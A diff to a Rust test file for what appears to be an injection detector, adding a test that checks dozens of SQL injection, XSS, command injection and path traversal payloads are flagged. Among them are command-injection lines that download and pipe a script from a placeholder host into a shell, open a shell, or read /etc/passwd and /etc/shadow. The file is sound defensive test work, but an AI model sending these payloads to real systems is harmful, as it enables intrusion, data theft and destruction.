@@ -8,10 +8,6 @@ fn attack(s: &str) -> bool {
     a
 }
 
-fn classes(s: &str) -> Vec<Class> {
-    check(s, Context::Auto).classes
-}
-
 fn assert_attacks(list: &[&str], class: Class) {
     for s in list {
         let v = check(s, Context::Auto);
@@ -462,4 +458,122 @@ fn large_inputs_are_linear() {
         // generous bound: catches super-linear behaviour, not a micro-benchmark
         assert!(el < Duration::from_secs(if cfg!(debug_assertions) { 20 } else { 1 }), "{:?} took {:?}", &s[..20.min(s.len())], el);
     }
+}
+
+#[test]
+fn more_attacks_by_class() {
+    assert_attacks(
+        &[
+            "1 AND 1=1 -- -",
+            "1' AND '1'='2",
+            "' OR 'x'='x' /*",
+            "1 OR 1=1 LIMIT 1",
+            "x' OR 1=1 OR 'x'='y",
+            "1' OR 1=1#",
+            "1\" OR \"1\"=\"1",
+            "1') AND ('1'='1",
+            "1)) OR ((1=1",
+            "admin'/*",
+            "' or ''='",
+            "1' UNION SELECT NULL,table_name FROM information_schema.tables--",
+            "' UNION ALL SELECT @@version,NULL#",
+            "1' ORDER BY 10-- -",
+            "1 GROUP BY 1,2,3 HAVING 1=1",
+            "1'; SELECT pg_sleep(5)--",
+            "1; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
+            "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
+            "1' WAITFOR DELAY '0:0:10'--",
+            "'; EXEC xp_cmdshell('whoami')--",
+            "1 AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a'",
+            "1' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64--",
+            "' AND 1=CAST((SELECT version()) AS int)--",
+            "1 AND updatexml(1,concat(0x7e,(SELECT user())),1)",
+            "' OR EXISTS(SELECT * FROM users)--",
+            "1; UPDATE users SET role='admin' WHERE id=1--",
+            "'; DELETE FROM orders; --",
+            "1; TRUNCATE TABLE audit_log",
+            "1'||(SELECT CHR(65)||CHR(66) FROM dual)||'",
+            "'+(SELECT TOP 1 name FROM sysobjects)+'",
+            "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
+            "-1' UNION SELECT 1,LOAD_FILE('/etc/passwd'),3-- -",
+            "1; COPY (SELECT '') TO PROGRAM 'id'--",
+            "1 AND 1=(SELECT COUNT(*) FROM pg_catalog.pg_tables)",
+            "' OR 1 IN (SELECT @@version)--",
+            "1%27%20OR%20%271%27%3D%271",
+            "1'/**/OR/**/'1'='1",
+            "1'%09or%091=1--",
+            "' oR 1=1 ;--",
+        ],
+        Class::Sqli,
+    );
+    assert_attacks(
+        &[
+            "<body onload=alert(1)>",
+            "<img src=1 onerror=prompt(document.domain)>",
+            "<details open ontoggle=alert(1)>",
+            "<video><source onerror=\"alert(1)\">",
+            "<svg><script>alert&#40;1&#41;</script>",
+            "<a href=\"javascript&colon;alert(1)\">click</a>",
+            "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
+            "\"><img src=x onerror=alert(1)>",
+            "'><svg onload=alert(1)>",
+            "</title><script>alert(1)</script>",
+            "<input autofocus onfocus=alert(1)>",
+            "<marquee onstart=alert(1)>",
+            "<object data=\"javascript:alert(1)\">",
+            "<isindex action=javascript:alert(1) type=submit>",
+            "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+            "<style>@import 'http://evil.example/x.css';</style>",
+            "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+            "\"-alert(1)-\"",
+            "\\\";alert(1);//",
+            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+            "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
+            "<scr<script>ipt>alert(1)</scr</script>ipt>",
+            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
+        ],
+        Class::Xss,
+    );
+    assert_attacks(
+        &[
+            ";ls -la",
+            "| cat /etc/passwd",
+            "`cat /etc/passwd`",
+            "$(cat /etc/passwd)",
+            "; ping -c 10 127.0.0.1",
+            "& whoami &",
+            "|| uname -a",
+            "%0Acat%20/etc/passwd",
+            ";curl${IFS}http://evil.example/x|sh",
+            "a && wget http://evil.example/s.sh -O /tmp/s.sh",
+            "127.0.0.1 | nslookup evil.example",
+            "& net localgroup administrators",
+            "| powershell -enc AAAA",
+            "; /bin/sh -i",
+            ";echo${IFS}pwned",
+            "x'; id; echo '",
+            "`sleep 10`",
+            "& timeout /t 5",
+        ],
+        Class::Cmdi,
+    );
+    assert_attacks(
+        &[
+            "../../../../../../etc/passwd",
+            "..%2F..%2F..%2Fetc%2Fpasswd",
+            "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
+            "....\\\\....\\\\windows\\\\win.ini",
+            "/var/www/../../etc/shadow",
+            "..%252f..%252f..%252fetc%252fpasswd",
+            "file:///etc/passwd",
+            "/proc/self/cmdline",
+            "..\\\\..\\\\..\\\\..\\\\boot.ini",
+            "image.png%00.php",
+            "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+            "C:/Windows/System32/drivers/etc/hosts",
+        ],
+        Class::Traversal,
+    );
 }
